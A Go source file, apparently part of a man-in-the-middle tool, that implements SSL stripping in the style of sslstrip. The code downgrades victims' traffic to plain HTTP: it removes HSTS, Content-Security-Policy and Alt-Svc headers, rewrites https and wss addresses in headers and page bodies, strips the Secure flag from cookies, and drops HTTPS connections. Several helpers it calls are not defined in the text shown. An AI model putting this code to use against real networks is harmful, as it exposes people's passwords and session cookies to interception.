package main

import (
	"net/http"
	"regexp"
	"strings"
	"sync"
)

// strip keeps browsers on plain HTTP, as sslstrip and bettercap's http.proxy do:
// it fetches over HTTPS what it is asked for in clear, takes the encryption out
// of every address in the answer, drops redirects to HTTPS, the order to use it
// and the mark that keeps cookies to it, and hangs up on whoever tries HTTPS all
// the same. Cookies go through it, so that people stay signed in.
func strip(u *upstream) road {
	return road{plain: u.serve(u.relay(u.best(), stripped)), secure: hangUp}
}

// best is HTTPS where a host has it, asked once a host.
func (u *upstream) best() func(host string) string {
	var known sync.Map
	return func(host string) string {
		scheme, ok := known.Load(host)
		if !ok {
			scheme = "http"
			if u.speaksTLS(host) {
				scheme = "https"
			}
			known.Store(host, scheme)
		}
		return scheme.(string)
	}
}

// stripped takes from an answer all that leads to, or keeps on, encryption.
func stripped(res *http.Response) error {
	strippedHeader(res.Header)
	return changeText(res, withoutTLS)
}

func strippedHeader(h http.Header) {
	h.Del("Strict-Transport-Security")
	h.Del("Content-Security-Policy")
	h.Del("Alt-Svc")
	for _, name := range []string{"Location", "Refresh", "Link"} {
		for i, v := range h[name] {
			h[name][i] = withoutTLS(v)
		}
	}
	for i, v := range h["Set-Cookie"] {
		h["Set-Cookie"][i] = secureMark.ReplaceAllString(v, "")
	}
}

var (
	secureMark = regexp.MustCompile(`(?i);\s*secure\b`)
	tlsSchemes = strings.NewReplacer(
		"https://", "http://", `https:\/\/`, `http:\/\/`, "https%3A%2F%2F", "http%3A%2F%2F",
		"wss://", "ws://", "upgrade-insecure-requests", "")
)

func withoutTLS(text string) string { return tlsSchemes.Replace(text) }
